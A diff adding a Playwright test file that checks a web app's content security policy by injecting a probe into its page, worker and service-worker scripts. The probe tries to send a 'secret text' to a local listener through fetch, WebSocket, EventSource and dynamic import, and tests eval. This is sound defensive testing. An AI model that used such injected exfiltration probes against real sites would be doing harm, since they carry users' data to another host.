@@ -1,0 +1,124 @@
+// That no text can leave the device, asked of every place where code runs: what would carry one
+// to another host is put into the page's own scripts, and that host listens.
+
+import { type Server, createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { App, type Page, expect } from "./page.ts";
+import { test as base } from "./site.ts";
+
+/** A host that is not the page's, and what has come to it. */
+interface Stranger {
+  url: string;
+  heard: string[];
+}
+
+/** The page as a person knows it, without the watch that all other tests keep over where it asks. */
+const test = base.extend<{ stranger: Stranger; unwatched: App }>({
+  unwatched: async ({ page }, use) => use(new App(page)),
+  // oxlint-disable-next-line no-empty-pattern -- what Playwright gives is told by this pattern
+  stranger: async ({}, use) => {
+    const heard: string[] = [];
+    const server: Server = createServer((request, response) => {
+      let body = "";
+      request.on("data", (part: Buffer) => (body += part.toString()));
+      request.on("end", () => {
+        heard.push(`${request.method} ${request.url} ${body}`);
+        const headers = { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" };
+        response.writeHead(200, headers).end("export {}");
+      });
+    });
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    const { port } = server.address() as AddressInfo;
+    await use({ url: `http://127.0.0.1:${port}/`, heard });
+    await new Promise((resolve) => server.close(resolve));
+  },
+});
+
+/** Tries every way out, and tells by a channel which were open. */
+function probe(place: string, stranger: string): string {
+  const attempt = async (place: string, stranger: string) => {
+    const open: string[] = [];
+    const secret = `${stranger}?secret`;
+    const ways: Record<string, () => unknown> = {
+      post: () => fetch(secret, { method: "POST", mode: "no-cors", body: "a secret text" }),
+      get: () => fetch(secret),
+      // oxlint-disable-next-line typescript/no-implied-eval -- whether it is forbidden is what is asked
+      eval: () => new Function("return 1")(),
+      socket: () => arrival(new WebSocket(secret.replace("http", "ws")), "open"),
+      events: () => arrival(new EventSource(secret), "open"),
+      import: () => import(/* @vite-ignore */ secret),
+    };
+    /** @param target - rejects when it fails */
+    function arrival(target: EventTarget, event: string): Promise<unknown> {
+      return new Promise((resolve, reject) => {
+        target.addEventListener(event, resolve);
+        target.addEventListener("error", reject);
+        target.addEventListener("close", reject);
+      });
+    }
+    for (const [name, way] of Object.entries(ways)) {
+      try {
+        await way();
+        open.push(name);
+      } catch {
+        // As it must be.
+      }
+    }
+    // Again and again, as who listens may come later.
+    const channel = new BroadcastChannel("probe");
+    setInterval(() => channel.postMessage({ place, open }), 100);
+  };
+  return `void (${attempt.toString()})(${JSON.stringify(place)}, ${JSON.stringify(stranger)});`;
+}
+
+/** What a place tells of the ways out that were open to it. */
+function told(page: Page, place: string): Promise<string[]> {
+  return page.evaluate(
+    (place) =>
+      new Promise<string[]>((resolve) => {
+        new BroadcastChannel("probe").addEventListener("message", ({ data }) => {
+          const { place: from, open } = data as { place: string; open: string[] };
+          if (from === place) resolve(open);
+        });
+      }),
+    place,
+  );
+}
+
+test(
+  "neither the page nor its workers can reach another host",
+  { tag: "@firefox" },
+  async ({ unwatched: app, page, site, stranger }) => {
+    site.tamper("index-", probe("page", stranger.url));
+    site.tamper("worker-", probe("worker", stranger.url));
+    await app.open();
+    expect(await told(page, "page")).toEqual([]);
+    expect(await told(page, "worker")).toEqual([]);
+    // From what the browser keeps, too.
+    await expect(page.getByRole("contentinfo")).toContainText("opens without a network");
+    await page.reload();
+    await expect(app.model).toBeEnabled();
+    expect(await told(page, "worker")).toEqual([]);
+    expect(stranger.heard).toEqual([]);
+  },
+);
+
+test(
+  "the service worker keeps to its own host",
+  { tag: "@firefox" },
+  async ({ unwatched: app, page, site, stranger }) => {
+    site.tamper("offline", probe("service worker", stranger.url));
+    await app.open();
+    // A worker's own policy is its host's to send; that it may evaluate code, the page cannot forbid.
+    expect(await told(page, "service worker")).toEqual(["eval"]);
+    expect(stranger.heard).toEqual([]);
+  },
+);
+
+test("what the service worker serves has the page's policy", async ({ unwatched: app, page }) => {
+  await app.open();
+  await expect(page.getByRole("contentinfo")).toContainText("opens without a network");
+  const response = await page.reload();
+  expect(response?.fromServiceWorker()).toBe(true);
+  expect(await response?.headerValue("content-security-policy")).toContain("default-src 'none'");
+});
